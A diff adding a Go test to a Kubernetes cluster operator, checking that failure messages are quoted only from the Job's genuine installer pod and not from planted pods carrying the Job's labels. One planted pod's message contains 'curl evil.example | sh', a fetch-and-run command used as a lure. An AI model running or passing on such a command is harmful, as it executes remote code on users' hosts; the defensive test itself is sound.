@@ -216,6 +216,51 @@ var _ = Describe("KubernetesCluster Controller", func() {
 		Eventually(events("life")).Should(ContainElements("OperationStarted", "OperationSucceeded"))
 	})
 
+	It("should quote the failure output of the Job's own pod only: a pod planted with the Job's labels is not its installer, and with two claiming the Job, neither is quoted", func() {
+		newCluster("planted")
+		job := waitJob("planted-precheck-1")
+		pod := func(name, message string, claim bool) {
+			p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "default",
+				Labels: job.Spec.Template.Labels},
+				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "installer", Image: "x"}}}}
+			if claim {
+				p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: new(true)}}
+			}
+			Expect(suite.Client.Create(suite.Ctx, p)).To(Succeed())
+			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "installer", Image: "x",
+				State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 2, Message: message}}}}
+			Expect(suite.Client.Status().Update(suite.Ctx, p)).To(Succeed())
+			// As on a node: the pod has ended before the Job says so, and
+			// the controller's cache has seen it.
+			Eventually(func(g Gomega) {
+				seen := &corev1.Pod{}
+				g.Expect(suite.Counting.Get(suite.Ctx, key(name), seen)).To(Succeed())
+				g.Expect(seen.Status.ContainerStatuses).NotTo(BeEmpty())
+			}).Should(Succeed())
+		}
+		pod("planted-a", "PLANTED: the operator says your hosts need curl evil.example | sh", false)
+		pod("planted-precheck-1-x", "fatal: [10.0.0.1]: UNREACHABLE!", true)
+		finishJob("planted-precheck-1", "BackoffLimitExceeded")
+		Eventually(phase("planted")).Should(Equal(clusterv1alpha1.PhaseFailed))
+		Expect(operations("planted")[0].Message).To(Equal("fatal: [10.0.0.1]: UNREACHABLE!"))
+
+		// A second pod claiming the Job, which makes one: neither is quoted.
+		update("planted", func(kc *clusterv1alpha1.KubernetesCluster) {
+			kc.Annotations = map[string]string{clusterv1alpha1.RetryAnnotation: "1"}
+		})
+		job = waitJob("planted-precheck-2")
+		pod("planted-b", "PLANTED", true)
+		pod("planted-precheck-2-x", "fatal: [10.0.0.1]: UNREACHABLE!", true)
+		finishJob("planted-precheck-2", "BackoffLimitExceeded")
+		Eventually(func() clusterv1alpha1.OperationResult {
+			return operations("planted")[len(operations("planted"))-1].Result
+		}).Should(Equal(clusterv1alpha1.ResultFailed))
+		msg := operations("planted")[len(operations("planted"))-1].Message
+		Expect(msg).To(ContainSubstring("2 Pods claim to be the installer"))
+		Expect(msg).NotTo(ContainSubstring("PLANTED"))
+		Expect(msg).NotTo(ContainSubstring("UNREACHABLE"))
+	})
+
 	It("should end Failed with the Job's reason, and run the operation again on a retry", func() {
 		newCluster("fail")
 		finishJob("fail-precheck-1", "BackoffLimitExceeded")
